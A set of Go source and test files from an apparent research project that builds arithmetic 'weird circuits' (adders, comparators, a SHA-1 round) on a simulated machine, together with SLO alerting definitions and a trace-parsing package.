	Name     string `json:"name"`
	Severity string `json:"severity"`
	// ShortWindow and LongWindow are the two evaluation windows.
	ShortWindow Duration `json:"short_window"`
	LongWindow  Duration `json:"long_window"`
	// BurnRate is the firing threshold: 1.0 burns exactly the budget
	// over the budget window; 14.4 exhausts a 30-day budget in 2 days.
	BurnRate float64 `json:"burn_rate"`
	// ResolveRatio (0,1] scales BurnRate into the resolve threshold;
	// zero selects 0.9.
	ResolveRatio float64 `json:"resolve_ratio,omitempty"`
}

// DefaultPolicies returns the canonical SRE pairing: a fast page and a
// slow ticket.
func DefaultPolicies() []BurnPolicy {
	return []BurnPolicy{
		{Name: "fast", Severity: SeverityPage, ShortWindow: Duration(5 * time.Minute),
			LongWindow: Duration(time.Hour), BurnRate: 14.4, ResolveRatio: 0.9},
		{Name: "slow", Severity: SeverityTicket, ShortWindow: Duration(6 * time.Hour),
			LongWindow: Duration(72 * time.Hour), BurnRate: 1, ResolveRatio: 0.9},
	}
}

// Definition declares one SLO.
type Definition struct {
	Name string `json:"name"`
	// Kind selects the classifier: availability, latency, or
	// gate_accuracy.
	Kind string `json:"kind"`
	// JobType restricts the SLO to one job type; empty matches all.
	JobType string `json:"job_type,omitempty"`
	// Objective is the good-event target in (0,1), e.g. 0.99. The error
	// budget is the complement.
	Objective float64 `json:"objective"`
	// LatencyThreshold is the good/bad boundary for latency SLOs.
	LatencyThreshold Duration `json:"latency_threshold,omitempty"`
	// BudgetWindow is the budget accounting horizon (default 24h).
	BudgetWindow Duration `json:"budget_window,omitempty"`
	// MinEvents suppresses burn evaluation for windows with fewer
	// events — a single failed job in an idle window is not a page
	// (default 10).
	MinEvents int `json:"min_events,omitempty"`
	// Policies are the burn-rate alert rules (default DefaultPolicies).
	Policies []BurnPolicy `json:"policies,omitempty"`
}

func (d Definition) withDefaults() Definition {
	if d.BudgetWindow <= 0 {
		d.BudgetWindow = Duration(24 * time.Hour)
	}
	if d.MinEvents == 0 {
		d.MinEvents = 10
	}
	if len(d.Policies) == 0 {
		d.Policies = DefaultPolicies()
	}
	for i := range d.Policies {
		if d.Policies[i].ResolveRatio <= 0 || d.Policies[i].ResolveRatio > 1 {
			d.Policies[i].ResolveRatio = 0.9
		}
	}
	return d
}

func (d Definition) validate() error {
	if d.Name == "" {
		return fmt.Errorf("slo: definition needs a name")
	}
	if !(d.Objective > 0 && d.Objective < 1) {
		return fmt.Errorf("slo %q: objective %v outside (0,1)", d.Name, d.Objective)
	}
	switch d.Kind {
	case KindAvailability, KindGateAccuracy:
	case KindLatency:
		if d.LatencyThreshold <= 0 {
			return fmt.Errorf("slo %q: latency kind needs latency_threshold", d.Name)
		}
	default:
		return fmt.Errorf("slo %q: unknown kind %q", d.Name, d.Kind)
	}
	for _, p := range d.Policies {
		if p.Name == "" {
			return fmt.Errorf("slo %q: policy needs a name", d.Name)
		}
		if p.ShortWindow <= 0 || p.LongWindow <= 0 || p.ShortWindow > p.LongWindow {
			return fmt.Errorf("slo %q policy %q: windows must satisfy 0 < short <= long",
				d.Name, p.Name)
		}
		if p.BurnRate <= 0 {
			return fmt.Errorf("slo %q policy %q: burn_rate must be positive", d.Name, p.Name)
		}
	}
	return nil
}

// DefaultSLOs is the out-of-the-box contract uwm-serve enforces when
// no -slo-config is given: three nines of job availability, a
// gate-accuracy floor matching the engine's default vote redundancy,
// and a generous latency bound that pages only on real stalls.
func DefaultSLOs() []Definition {
	return []Definition{
		{Name: "job-availability", Kind: KindAvailability, Objective: 0.99},
		{Name: "gate-accuracy", Kind: KindGateAccuracy, Objective: 0.90},
		{Name: "job-latency", Kind: KindLatency, Objective: 0.99,
			LatencyThreshold: Duration(5 * time.Second)},
	}
}

// ParseDefinitions decodes an SLO config document: either a bare JSON
// array of definitions or an object {"slos": [...]}.
func ParseDefinitions(b []byte) ([]Definition, error) {
	var wrapped struct {
		SLOs []Definition `json:"slos"`
	}
	if err := json.Unmarshal(b, &wrapped); err == nil && wrapped.SLOs != nil {
		return wrapped.SLOs, nil
	}
	var defs []Definition
	if err := json.Unmarshal(b, &defs); err != nil {
		return nil, fmt.Errorf("slo: config must be [{...}] or {\"slos\": [...]}: %w", err)
	}
	return defs, nil
}

// Observation is one unit of evidence: a terminal job, with its
// correlation ids and (for gate jobs) the per-op accuracy tally. The
// engine emits one evlog record per observation; those records are the
// whole replay input.
type Observation struct {
	// At is the evaluation timestamp. The engine stamps it from its
	// clock when zero; replay keeps the recorded stamp.
	At        time.Time `json:"at"`
	JobID     string    `json:"job_id,omitempty"`
	RequestID string    `json:"request_id,omitempty"`
	// TraceID names the flight recording correlated with this
	// observation (the engine uses the job id).
	TraceID string `json:"trace_id,omitempty"`
	// Type is the job type; Status its terminal state (done, failed,
	// canceled).
	Type   string `json:"type"`
	Status string `json:"status"`
	// LatencySeconds is the job's execution latency.
	LatencySeconds float64 `json:"latency_seconds"`
	// GateCorrect/GateTotal tally individual gate evaluations across
	// the job's attempts; zero total means "not a gate job".
	GateCorrect int `json:"gate_correct,omitempty"`
	GateTotal   int `json:"gate_total,omitempty"`
}

// classify maps an observation onto one SLO's good/bad scale. burner
// reports whether this observation itself violated the objective —
// those are the traces an alert names.
func classify(d Definition, obs Observation) (good, bad float64, burner, ok bool) {
	if d.JobType != "" && d.JobType != obs.Type {
		return 0, 0, false, false
	}
	switch d.Kind {
	case KindAvailability:
		switch obs.Status {
		case "done":
			return 1, 0, false, true
		case "failed":
			return 0, 1, true, true
		default:
			return 0, 0, false, false
		}
	case KindLatency:
		if obs.Status != "done" {
			return 0, 0, false, false
		}
		if obs.LatencySeconds <= d.LatencyThreshold.D().Seconds() {
			return 1, 0, false, true
		}
		return 0, 1, true, true
	case KindGateAccuracy:
		if obs.GateTotal <= 0 {
			return 0, 0, false, false
		}
		good = float64(obs.GateCorrect)
		bad = float64(obs.GateTotal - obs.GateCorrect)
		burner = good/float64(obs.GateTotal) < d.Objective
		return good, bad, burner, true
	default:
		return 0, 0, false, false
	}
}

// TracePinner is the flight recorder's pinning surface, stated
// structurally so this package does not import flightrec. Pin reports
// whether a recording with that id existed to pin.
type TracePinner interface {
	Pin(id string) bool
	Unpin(id string)
}

// Transition is one alert state change. Its JSON encoding is the
// byte-for-byte unit of the determinism contract: live and replayed
// timelines must marshal identically.
type Transition struct {
	At       time.Time `json:"at"`
	SLO      string    `json:"slo"`
	Policy   string    `json:"policy"`
	Severity string    `json:"severity"`
	State    string    `json:"state"`
	// BurnShort/BurnLong are the burn rates that crossed the threshold.
	BurnShort float64 `json:"burn_short"`
	BurnLong  float64 `json:"burn_long"`
	// BudgetConsumed is the budget-window burn fraction at transition
	// time (1.0 = budget exhausted).
	BudgetConsumed float64 `json:"budget_consumed"`
	// TraceIDs are the recent budget-burning trace ids, oldest first.
	// They are derived from observations alone (not from pin results)
	// so replayed transitions carry the same ids.
	TraceIDs []string `json:"trace_ids,omitempty"`
}
