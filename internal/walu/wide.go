package walu

import (
	"fmt"

	"uwm/internal/core"
)

// WideAdderSpec builds an n-bit ripple-carry adder netlist (inputs
// a0..a(n-1), b0..b(n-1); outputs sum bits LSB-first then carry-out)
// for widths up to 64. Unlike AdderSpec it inserts no fan-out buffers
// and is not meant for core.CompileCircuit's transaction chains — it
// targets the gate-by-gate plan evaluators (internal/circopt), which
// hold intermediate wires architecturally and have no physical fan-out
// bound. The per-bit carry logic deliberately re-derives AND(a,b),
// which the Xor synthesis already computed: common-subexpression
// elimination merges the twins, one of the eliminations the
// CircuitThroughput experiment measures.
func WideAdderSpec(bits int) (*core.CircuitSpec, error) {
	if bits < 1 || bits > 64 {
		return nil, fmt.Errorf("walu: wide adder width %d outside [1,64]", bits)
	}
	s := core.NewCircuitSpec(2 * bits)
	a := make([]core.WireID, bits)
	b := make([]core.WireID, bits)
	for i := 0; i < bits; i++ {
		a[i], b[i] = core.WireID(i), core.WireID(bits+i)
	}
	sums, carry := rippleAdd(s, a, b)
	for _, w := range sums {
		s.Output(w)
	}
	s.Output(carry)
	return s, nil
}

// rippleAdd appends a ripple-carry adder over two equal-width wire
// vectors and returns the sum bits (LSB-first) and the carry-out.
func rippleAdd(s *core.CircuitSpec, a, b []core.WireID) (sums []core.WireID, carry core.WireID) {
	carry = core.WireID(-1)
	for i := range a {
		x := s.Xor(a[i], b[i])
		if carry < 0 {
			sums = append(sums, x)
			carry = s.And(a[i], b[i])
			continue
		}
		sums = append(sums, s.Xor(x, carry))
		carry = s.Or(s.And(a[i], b[i]), s.And(carry, x))
	}
	return sums, carry
}
