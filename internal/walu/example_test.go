package walu_test

import (
	"fmt"

	"uwm/internal/core"
	"uwm/internal/walu"
)

// ExampleALU adds and compares words on circuits whose every operation
// is a contiguous chain of aborting transactions.
func ExampleALU() {
	m := core.MustNewMachine(core.Options{Seed: 6})
	alu, err := walu.New(m, 4)
	if err != nil {
		panic(err)
	}
	sum, carry, err := alu.Add(9, 8)
	if err != nil {
		panic(err)
	}
	eq, err := alu.Equal(7, 7)
	if err != nil {
		panic(err)
	}
	fmt.Printf("9+8 = %d carry %d; 7==7: %v\n", sum, carry, eq)
	// Output:
	// 9+8 = 1 carry 1; 7==7: true
}
