package walu

import "uwm/internal/core"

// SHA1RoundSpec builds one SHA-1 compression round as a flat netlist —
// the paper's weird SHA-1 (§5) spends 80 of these per block, chained
// gate by gate. Inputs are seven 32-bit words, LSB-first: the state
// a, b, c, d, e, the schedule word w and the round constant k
// (7 × 32 = 224 input wires). Outputs are the rotated next state
// a', b', c', d', e' (160 wires):
//
//	a' = (a <<< 5) + f(b,c,d) + e + k + w   (mod 2³²)
//	b' = a,  c' = b <<< 30,  d' = c,  e' = d
//
// with the Ch round function of rounds 0–19, f = (b ∧ c) ∨ (¬b ∧ d).
// Rotations are pure rewiring; the four word additions are ripple
// chains. Binding the k inputs to a known round constant via
// circopt.Options.Bind lets constant folding collapse most of one
// full adder — the folding case the CircuitThroughput experiment
// reports.
func SHA1RoundSpec() (*core.CircuitSpec, error) {
	s := core.NewCircuitSpec(7 * 32)
	word := func(idx int) []core.WireID {
		w := make([]core.WireID, 32)
		for i := range w {
			w[i] = core.WireID(idx*32 + i)
		}
		return w
	}
	a, b, c, d, e := word(0), word(1), word(2), word(3), word(4)
	w, k := word(5), word(6)

	// rotl rewires x left-rotated by n: result bit i is x's bit
	// (i-n) mod 32 (LSB-first layout).
	rotl := func(x []core.WireID, n int) []core.WireID {
		out := make([]core.WireID, 32)
		for i := range out {
			out[i] = x[((i-n)%32+32)%32]
		}
		return out
	}

	// f = Ch(b, c, d), bitwise.
	f := make([]core.WireID, 32)
	for i := 0; i < 32; i++ {
		bc := s.And(b[i], c[i])
		nbd := s.And(s.Not(b[i]), d[i])
		f[i] = s.Or(bc, nbd)
	}

	add := func(x, y []core.WireID) []core.WireID {
		sums, _ := rippleAdd(s, x, y) // mod 2³²: carry-out dropped (dead wire)
		return sums
	}
	t := add(rotl(a, 5), f)
	t = add(t, e)
	t = add(t, k)
	t = add(t, w)

	for _, grp := range [][]core.WireID{t, a, rotl(b, 30), c, d} {
		for _, wire := range grp {
			s.Output(wire)
		}
	}
	return s, nil
}
