package walu

import (
	"math/bits"
	"testing"

	"uwm/internal/noise"
)

func bitsOfWord(v uint32) []int {
	out := make([]int, 32)
	for i := range out {
		out[i] = int(v >> uint(i) & 1)
	}
	return out
}

func wordOfBits(b []int) uint32 {
	var v uint32
	for i, bit := range b {
		if bit != 0 {
			v |= 1 << uint(i)
		}
	}
	return v
}

func TestWideAdderSpecGolden(t *testing.T) {
	spec, err := WideAdderSpec(32)
	if err != nil {
		t.Fatal(err)
	}
	if err := spec.Validate(); err != nil {
		t.Fatal(err)
	}
	rng := noise.NewRNG(41)
	for trial := 0; trial < 32; trial++ {
		a, b := uint32(rng.Uint64()), uint32(rng.Uint64())
		in := append(bitsOfWord(a), bitsOfWord(b)...)
		out, err := spec.Eval(in)
		if err != nil {
			t.Fatal(err)
		}
		sum := wordOfBits(out[:32])
		carry := out[32]
		wide := uint64(a) + uint64(b)
		if sum != uint32(wide) || carry != int(wide>>32) {
			t.Fatalf("%#x + %#x: got sum %#x carry %d, want %#x carry %d",
				a, b, sum, carry, uint32(wide), wide>>32)
		}
	}

	if _, err := WideAdderSpec(0); err == nil {
		t.Error("width 0 accepted")
	}
	if _, err := WideAdderSpec(65); err == nil {
		t.Error("width 65 accepted")
	}
}

func TestSHA1RoundSpecGolden(t *testing.T) {
	spec, err := SHA1RoundSpec()
	if err != nil {
		t.Fatal(err)
	}
	if err := spec.Validate(); err != nil {
		t.Fatal(err)
	}
	rng := noise.NewRNG(43)
	for trial := 0; trial < 16; trial++ {
		words := make([]uint32, 7) // a, b, c, d, e, w, k
		var in []int
		for i := range words {
			words[i] = uint32(rng.Uint64())
			in = append(in, bitsOfWord(words[i])...)
		}
		a, b, c, d, e, w, k := words[0], words[1], words[2], words[3], words[4], words[5], words[6]
		out, err := spec.Eval(in)
		if err != nil {
			t.Fatal(err)
		}
		f := (b & c) | (^b & d) // Ch, rounds 0-19
		wantA := bits.RotateLeft32(a, 5) + f + e + k + w
		got := make([]uint32, 5)
		for i := range got {
			got[i] = wordOfBits(out[i*32 : (i+1)*32])
		}
		want := []uint32{wantA, a, bits.RotateLeft32(b, 30), c, d}
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("trial %d: state word %d = %#x, want %#x", trial, i, got[i], want[i])
			}
		}
	}
}
