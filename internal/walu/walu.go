// Package walu builds arithmetic weird circuits — a small ALU whose
// every operation runs as one contiguous chain of aborting transactions
// on the μWM (§4's weird circuits, scaled up): ripple-carry adders,
// two's-complement subtractors, equality comparators and multiplexers.
//
// Each constructor returns both the netlist (for inspection or further
// composition) and a compiled circuit bound to a machine. An 8-bit
// adder is ~83 transactions; every intermediate value lives only in the
// data cache.
package walu

import (
	"fmt"

	"uwm/internal/core"
)

// fanout returns n wires carrying w's value. The circuit compiler
// bounds physical fan-out per wire (core.MaxFanout); fanout inserts
// assignment buffers so any logical fan-out compiles — the weird
// analogue of a fan-out buffer tree. The original wire is consumed
// exactly once (by the first buffer), so w may carry other uses.
func fanout(s *core.CircuitSpec, w core.WireID, n int) []core.WireID {
	out := make([]core.WireID, 0, n)
	cur := s.Assign(w) // single tap on the original
	for n > 0 {
		if n <= core.MaxFanout {
			for i := 0; i < n; i++ {
				out = append(out, cur)
			}
			return out
		}
		// Each buffer level yields MaxFanout-1 taps plus one feed to
		// the next buffer.
		taps := core.MaxFanout - 1
		for i := 0; i < taps; i++ {
			out = append(out, cur)
		}
		n -= taps
		cur = s.Assign(cur)
	}
	return out
}

// wireUse hands out successive taps from a fanout allocation.
type wireUse struct {
	taps []core.WireID
	next int
}

func (u *wireUse) take() core.WireID {
	w := u.taps[u.next]
	u.next++
	return w
}

// AdderSpec builds an n-bit ripple-carry adder netlist with inputs
// a0..a(n-1), b0..b(n-1) and an optional carry-in as the last input.
// Outputs are sum bits LSB-first followed by the carry-out.
func AdderSpec(bits int, carryIn bool) (*core.CircuitSpec, error) {
	if bits < 1 || bits > 16 {
		return nil, fmt.Errorf("walu: adder width %d outside [1,16]", bits)
	}
	nIn := 2 * bits
	if carryIn {
		nIn++
	}
	s := core.NewCircuitSpec(nIn)
	carry := core.WireID(-1)
	if carryIn {
		carry = core.WireID(2 * bits)
	}
	var sums []core.WireID
	for i := 0; i < bits; i++ {
		a, b := core.WireID(i), core.WireID(bits+i)
		x := s.Xor(a, b)
		if carry < 0 {
			sums = append(sums, s.Assign(x))
			carry = s.And(a, b)
			continue
		}
		sums = append(sums, s.Xor(x, carry))
		carry = s.Or(s.And(a, b), s.And(carry, x))
	}
	for _, w := range sums {
		s.Output(w)
	}
	s.Output(carry)
	return s, nil
}

// SubtractorSpec builds an n-bit two's-complement subtractor
// (a − b = a + ¬b + 1): inputs a0.., b0..; outputs are difference bits
// LSB-first followed by the borrow-free flag (carry-out; 1 means
// a ≥ b).
func SubtractorSpec(bits int) (*core.CircuitSpec, error) {
	if bits < 1 || bits > 16 {
		return nil, fmt.Errorf("walu: subtractor width %d outside [1,16]", bits)
	}
	s := core.NewCircuitSpec(2 * bits)
	carry := core.WireID(-1)
	var diffs []core.WireID
	for i := 0; i < bits; i++ {
		a := core.WireID(i)
		nb := s.Not(core.WireID(bits + i))
		x := s.Xor(a, nb)
		if carry < 0 {
			// carry-in = 1: sum bit = x ^ 1 = ¬x; carry = a | ¬b.
			diffs = append(diffs, s.Not(x))
			carry = s.Or(a, nb)
			continue
		}
		diffs = append(diffs, s.Xor(x, carry))
		carry = s.Or(s.And(a, nb), s.And(carry, x))
	}
	for _, w := range diffs {
		s.Output(w)
	}
	s.Output(carry)
	return s, nil
}

// EqualSpec builds an n-bit equality comparator: output 1 iff a == b,
// computed as an AND tree over per-bit XNORs.
func EqualSpec(bits int) (*core.CircuitSpec, error) {
	if bits < 1 || bits > 16 {
		return nil, fmt.Errorf("walu: comparator width %d outside [1,16]", bits)
	}
	s := core.NewCircuitSpec(2 * bits)
	var terms []core.WireID
	for i := 0; i < bits; i++ {
		terms = append(terms, s.Not(s.Xor(core.WireID(i), core.WireID(bits+i))))
	}
	for len(terms) > 1 {
		var next []core.WireID
		for i := 0; i+1 < len(terms); i += 2 {
			next = append(next, s.And(terms[i], terms[i+1]))
		}
		if len(terms)%2 == 1 {
			next = append(next, terms[len(terms)-1])
		}
		terms = next
	}
	s.Output(terms[0])
	return s, nil
}

// MuxSpec builds an n-bit 2:1 multiplexer: inputs a0.., b0.., sel;
// outputs sel ? a : b per bit. The select line is fanned out through
// assignment buffers.
func MuxSpec(bits int) (*core.CircuitSpec, error) {
	if bits < 1 || bits > 16 {
		return nil, fmt.Errorf("walu: mux width %d outside [1,16]", bits)
	}
	s := core.NewCircuitSpec(2*bits + 1)
	sel := core.WireID(2 * bits)
	nsel := s.Not(sel) // consumes one tap of sel
	selTaps := &wireUse{taps: fanout(s, sel, bits)}
	nselTaps := &wireUse{taps: fanout(s, nsel, bits)}
	for i := 0; i < bits; i++ {
		a, b := core.WireID(i), core.WireID(bits+i)
		s.Output(s.Or(s.And(a, selTaps.take()), s.And(b, nselTaps.take())))
	}
	return s, nil
}

// ALU bundles compiled word-level circuits on one machine.
type ALU struct {
	bits  int
	add   *core.Circuit
	sub   *core.Circuit
	equal *core.Circuit
	mux   *core.Circuit
}

// New compiles an n-bit ALU (adder, subtractor, comparator, mux) on m.
func New(m *core.Machine, bits int) (*ALU, error) {
	a := &ALU{bits: bits}
	spec, err := AdderSpec(bits, false)
	if err != nil {
		return nil, err
	}
	if a.add, err = core.CompileCircuit(m, spec); err != nil {
		return nil, fmt.Errorf("walu: adder: %w", err)
	}
	if spec, err = SubtractorSpec(bits); err != nil {
		return nil, err
	}
	if a.sub, err = core.CompileCircuit(m, spec); err != nil {
		return nil, fmt.Errorf("walu: subtractor: %w", err)
	}
	if spec, err = EqualSpec(bits); err != nil {
		return nil, err
	}
	if a.equal, err = core.CompileCircuit(m, spec); err != nil {
		return nil, fmt.Errorf("walu: comparator: %w", err)
	}
	if spec, err = MuxSpec(bits); err != nil {
		return nil, err
	}
	if a.mux, err = core.CompileCircuit(m, spec); err != nil {
		return nil, fmt.Errorf("walu: mux: %w", err)
	}
	return a, nil
}

// Bits returns the ALU's word width.
func (a *ALU) Bits() int { return a.bits }

// Transactions returns the transaction count of each operation's
// circuit (add, sub, equal, mux) — the μWM cost model.
func (a *ALU) Transactions() (add, sub, equal, mux int) {
	return a.add.Transactions(), a.sub.Transactions(), a.equal.Transactions(), a.mux.Transactions()
}

// bitsOf splits v into LSB-first bits.
func (a *ALU) bitsOf(v uint64) []int {
	out := make([]int, a.bits)
	for i := range out {
		out[i] = int(v >> uint(i) & 1)
	}
	return out
}

// wordOf reassembles LSB-first bits.
func wordOf(bits []int) uint64 {
	var v uint64
	for i, b := range bits {
		if b != 0 {
			v |= 1 << uint(i)
		}
	}
	return v
}

// Add returns (a + b) mod 2ⁿ and the carry-out, computed weirdly.
func (a *ALU) Add(x, y uint64) (uint64, int, error) {
	out, err := a.add.Run(append(a.bitsOf(x), a.bitsOf(y)...)...)
	if err != nil {
		return 0, 0, err
	}
	return wordOf(out[:a.bits]), out[a.bits], nil
}

// Sub returns (a − b) mod 2ⁿ and a no-borrow flag (1 iff a ≥ b).
func (a *ALU) Sub(x, y uint64) (uint64, int, error) {
	out, err := a.sub.Run(append(a.bitsOf(x), a.bitsOf(y)...)...)
	if err != nil {
		return 0, 0, err
	}
	return wordOf(out[:a.bits]), out[a.bits], nil
}

// Equal reports whether x == y (mod 2ⁿ), computed weirdly.
func (a *ALU) Equal(x, y uint64) (bool, error) {
	out, err := a.equal.Run(append(a.bitsOf(x), a.bitsOf(y)...)...)
	if err != nil {
		return false, err
	}
	return out[0] == 1, nil
}

// Mux returns x if sel is 1, else y.
func (a *ALU) Mux(sel int, x, y uint64) (uint64, error) {
	in := append(a.bitsOf(x), a.bitsOf(y)...)
	in = append(in, sel&1)
	out, err := a.mux.Run(in...)
	if err != nil {
		return 0, err
	}
	return wordOf(out), nil
}
