package walu

import (
	"testing"

	"uwm/internal/core"
	"uwm/internal/noise"
)

func alu(t *testing.T, bits int) *ALU {
	t.Helper()
	m, err := core.NewMachine(core.Options{Seed: 61})
	if err != nil {
		t.Fatal(err)
	}
	a, err := New(m, bits)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func TestAdd4BitExhaustive(t *testing.T) {
	a := alu(t, 4)
	for x := uint64(0); x < 16; x++ {
		for y := uint64(0); y < 16; y++ {
			sum, carry, err := a.Add(x, y)
			if err != nil {
				t.Fatal(err)
			}
			total := x + y
			if sum != total&0xF || carry != int(total>>4) {
				t.Errorf("%d+%d = %d carry %d", x, y, sum, carry)
			}
		}
	}
}

func TestSub4BitExhaustive(t *testing.T) {
	a := alu(t, 4)
	for x := uint64(0); x < 16; x++ {
		for y := uint64(0); y < 16; y++ {
			diff, geq, err := a.Sub(x, y)
			if err != nil {
				t.Fatal(err)
			}
			if diff != (x-y)&0xF {
				t.Errorf("%d-%d = %d", x, y, diff)
			}
			wantGeq := 0
			if x >= y {
				wantGeq = 1
			}
			if geq != wantGeq {
				t.Errorf("%d>=%d flag = %d", x, y, geq)
			}
		}
	}
}

func TestEqual4BitExhaustive(t *testing.T) {
	a := alu(t, 4)
	for x := uint64(0); x < 16; x++ {
		for y := uint64(0); y < 16; y++ {
			eq, err := a.Equal(x, y)
			if err != nil {
				t.Fatal(err)
			}
			if eq != (x == y) {
				t.Errorf("Equal(%d,%d) = %v", x, y, eq)
			}
		}
	}
}

func TestMux4Bit(t *testing.T) {
	a := alu(t, 4)
	cases := []struct {
		sel  int
		x, y uint64
	}{
		{1, 0xA, 0x5}, {0, 0xA, 0x5}, {1, 0xF, 0x0}, {0, 0x0, 0xF}, {1, 0x3, 0x3},
	}
	for _, c := range cases {
		got, err := a.Mux(c.sel, c.x, c.y)
		if err != nil {
			t.Fatal(err)
		}
		want := c.y
		if c.sel == 1 {
			want = c.x
		}
		if got != want {
			t.Errorf("Mux(%d,%#x,%#x) = %#x, want %#x", c.sel, c.x, c.y, got, want)
		}
	}
}

func TestEightBitRandom(t *testing.T) {
	if testing.Short() {
		t.Skip("8-bit circuits are large")
	}
	a := alu(t, 8)
	add, sub, eq, mux := a.Transactions()
	t.Logf("8-bit ALU transactions: add=%d sub=%d equal=%d mux=%d", add, sub, eq, mux)
	rng := noise.NewRNG(17)
	for i := 0; i < 12; i++ {
		x, y := rng.Uint64()&0xFF, rng.Uint64()&0xFF
		sum, carry, err := a.Add(x, y)
		if err != nil {
			t.Fatal(err)
		}
		if total := x + y; sum != total&0xFF || carry != int(total>>8) {
			t.Errorf("%d+%d = %d/%d", x, y, sum, carry)
		}
		diff, _, err := a.Sub(x, y)
		if err != nil {
			t.Fatal(err)
		}
		if diff != (x-y)&0xFF {
			t.Errorf("%d-%d = %d", x, y, diff)
		}
		eqv, err := a.Equal(x, y)
		if err != nil {
			t.Fatal(err)
		}
		if eqv != (x == y) {
			t.Errorf("Equal(%d,%d) = %v", x, y, eqv)
		}
	}
	// Equality fast-path: identical operands.
	if eqv, err := a.Equal(0x5A, 0x5A); err != nil || !eqv {
		t.Errorf("Equal(x,x) = %v, %v", eqv, err)
	}
}

func TestAdderWithCarryIn(t *testing.T) {
	m, err := core.NewMachine(core.Options{Seed: 62})
	if err != nil {
		t.Fatal(err)
	}
	spec, err := AdderSpec(3, true)
	if err != nil {
		t.Fatal(err)
	}
	c, err := core.CompileCircuit(m, spec)
	if err != nil {
		t.Fatal(err)
	}
	for v := 0; v < 128; v++ {
		x, y, cin := v&7, v>>3&7, v>>6&1
		in := make([]int, 7)
		for i := 0; i < 3; i++ {
			in[i] = x >> i & 1
			in[3+i] = y >> i & 1
		}
		in[6] = cin
		got, err := c.Run(in...)
		if err != nil {
			t.Fatal(err)
		}
		total := x + y + cin
		for i := 0; i < 3; i++ {
			if got[i] != total>>i&1 {
				t.Errorf("%d+%d+%d sum bit %d = %d", x, y, cin, i, got[i])
			}
		}
		if got[3] != total>>3 {
			t.Errorf("%d+%d+%d carry = %d", x, y, cin, got[3])
		}
	}
}

func TestWidthValidation(t *testing.T) {
	for _, f := range []func(int) (*core.CircuitSpec, error){
		func(b int) (*core.CircuitSpec, error) { return AdderSpec(b, false) },
		SubtractorSpec,
		EqualSpec,
		MuxSpec,
	} {
		if _, err := f(0); err == nil {
			t.Error("width 0 accepted")
		}
		if _, err := f(17); err == nil {
			t.Error("width 17 accepted")
		}
	}
}

// TestFanoutHelper checks the buffer-tree fan-out used by MuxSpec.
func TestFanoutHelper(t *testing.T) {
	m, err := core.NewMachine(core.Options{Seed: 63})
	if err != nil {
		t.Fatal(err)
	}
	s := core.NewCircuitSpec(1)
	taps := fanout(s, 0, 9) // exceeds MaxFanout: needs buffers
	if len(taps) != 9 {
		t.Fatalf("taps = %d", len(taps))
	}
	// AND-tree all taps together: result must equal the input.
	acc := taps[0]
	for _, w := range taps[1:] {
		acc = s.And(acc, w)
	}
	s.Output(acc)
	c, err := core.CompileCircuit(m, s)
	if err != nil {
		t.Fatal(err)
	}
	for _, bit := range []int{0, 1} {
		got, err := c.Run(bit)
		if err != nil {
			t.Fatal(err)
		}
		if got[0] != bit {
			t.Errorf("fanout-AND(%d) = %d", bit, got[0])
		}
	}
}
