// Package traceanalyze parses the JSONL event stream written by
// trace.JSONLSink back into events and computes the offline reports the
// live path cannot: per-gate timeline reconstruction, speculative-
// window length distributions versus gate outcome (the paper's §4
// race), contention detection inside open windows, and an HPC-style
// detectability summary replayed from the trace. cmd/uwm-trace is the
// CLI over this package.
package traceanalyze

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"strings"

	"uwm/internal/trace"
)

// wireEvent mirrors the JSONL sink's line format.
type wireEvent struct {
	Kind  string `json:"kind"`
	Plane string `json:"plane"`
	Cycle int64  `json:"cycle"`
	PC    uint64 `json:"pc"`
	Addr  uint64 `json:"addr"`
	Value uint64 `json:"value"`
	Text  string `json:"text"`
}

// ParseResult is a decoded trace plus parse diagnostics.
type ParseResult struct {
	Events []trace.Event
	// Truncated reports that the final line was incomplete (a run cut
	// off mid-write); Events then holds the complete prefix.
	Truncated bool
	// Lines is the number of non-blank lines consumed, including a
	// truncated final one.
	Lines int
}

// ParseJSONL decodes a JSONL trace. It tolerates an empty stream
// (returning zero events) and a truncated final line (returning the
// complete prefix with Truncated set) — both are what a crashed or
// killed run leaves behind. A malformed line anywhere else, or an
// event kind this build does not know, is an error.
func ParseJSONL(r io.Reader) (*ParseResult, error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64<<10), 16<<20)
	res := &ParseResult{}
	var pendingBad string // a line that failed to decode, held until we know it is final
	badLineNo := 0
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" {
			continue
		}
		if pendingBad != "" {
			return nil, fmt.Errorf("traceanalyze: line %d: malformed event %.60q", badLineNo, pendingBad)
		}
		res.Lines++
		var w wireEvent
		if err := json.Unmarshal([]byte(line), &w); err != nil {
			if res.Lines == 1 && strings.Contains(line, "traceEvents") {
				return nil, fmt.Errorf("traceanalyze: input is a Chrome trace_event file; offline analysis needs the JSONL format (-trace-out with a .jsonl suffix)")
			}
			pendingBad, badLineNo = line, res.Lines
			continue
		}
		k, ok := trace.ParseKind(w.Kind)
		if !ok {
			return nil, fmt.Errorf("traceanalyze: line %d: unknown event kind %q", res.Lines, w.Kind)
		}
		res.Events = append(res.Events, trace.Event{
			Kind: k, Cycle: w.Cycle, PC: w.PC, Addr: w.Addr, Value: w.Value, Text: w.Text,
		})
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("traceanalyze: %w", err)
	}
	if pendingBad != "" {
		// The malformed line was the last one: a truncated tail.
		res.Truncated = true
	}
	return res, nil
}

// ParseFile opens and parses a JSONL trace file.
func ParseFile(path string) (*ParseResult, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, fmt.Errorf("traceanalyze: %w", err)
	}
	defer f.Close()
	return ParseJSONL(f)
}
