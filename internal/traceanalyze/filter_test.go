package traceanalyze

import (
	"testing"

	"uwm/internal/trace"
)

// span builds the bracketing events of an annotated span around the
// given payload events.
func span(id uint64, name, annotation string, payload ...trace.Event) []trace.Event {
	out := []trace.Event{{Kind: trace.KindSpanBegin, Value: id, Text: name}}
	if annotation != "" {
		out = append(out, trace.Event{Kind: trace.KindAnnotation, Addr: id, Text: annotation})
	}
	out = append(out, payload...)
	return append(out, trace.Event{Kind: trace.KindSpanEnd, Value: id, Text: name})
}

func TestFilterByAnnotation(t *testing.T) {
	read := func(delta uint64) trace.Event {
		return trace.Event{Kind: trace.KindTimedRead, Value: delta}
	}
	var events []trace.Event
